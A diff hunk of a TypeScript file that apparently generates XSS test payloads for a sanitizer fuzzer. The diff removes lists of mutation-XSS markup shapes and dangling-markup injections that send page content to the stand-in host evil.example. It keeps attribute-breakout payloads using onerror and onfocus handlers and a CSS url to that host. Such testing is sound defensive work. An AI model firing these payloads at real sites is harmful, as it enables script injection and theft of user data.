@@ -202,46 +202,13 @@ const CORES: readonly string[] = [
   '<iframe srcdoc="<script>top.__hit(«id»)</script>"></iframe>',
 ];
 
-/** Markup that is another one once it was written out and read again. */
-const MUTATIONS: readonly string[] = [
-  '<table><a>«core»<tr></a></table>',
-  '<svg></p><style><a id="</style>«core»">',
-  '<math><mtext><table><mglyph><style><!--</style>«core»-->',
-  '<form><math><mtext></form><form><mglyph><style></math>«core»',
-  '<svg><style>&lt;/style&gt;«core»</style></svg>',
-  '<svg><title><style><img title="</style>«core»"></title></svg>',
-  '<pre>\n\n<code>«core»</code></pre>',
-  '<p><plaintext></p>«core»',
-  '<b><i><u></b>«core»</i></u>',
-  '<div id="&quot;>«core»">x</div>',
-  '<!-- a --!>«core»<!-- -->',
-  '<annotation-xml encoding="text/html">«core»</annotation-xml>',
-];
-
-/** Markup without an end, which swallows what follows and sends it along. */
-const DANGLING: readonly Payload[] = [
-  "<img src='//evil.example/«id»?",
-  '<a href="//evil.example/«id»" target="',
-  "<base target='//evil.example/«id»",
-  '<textarea name=q form=x>//evil.example/«id»',
-  '<form action=//evil.example/«id»><button>x</button><textarea name=q>',
-  '<style>@import//evil.example/«id»?',
-  "<meta http-equiv=refresh content='0;url=//evil.example/«id»?",
-].map((template) => ({ name: 'dangling', template }));
-
-const BREAKOUTS: readonly Payload[] = [
-  ...ENDS.flatMap((end) =>
-    end.includes('«attribute»')
-      ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
-          (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
-        )
-      : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
-  ),
-  ...MUTATIONS.flatMap((shape) =>
-    combine({ kind: 'mutation', carriers: [shape], slot: '«core»', fillings: CORES, each: 6 }),
-  ),
-  ...DANGLING,
-];
+const BREAKOUTS: readonly Payload[] = ENDS.flatMap((end) =>
+  end.includes('«attribute»')
+    ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
+        (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
+      )
+    : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
+);
 
 /** Names that mean something to objects, templates of frameworks, and what looks like an element of React. */
 const TEXTS: readonly string[] = [
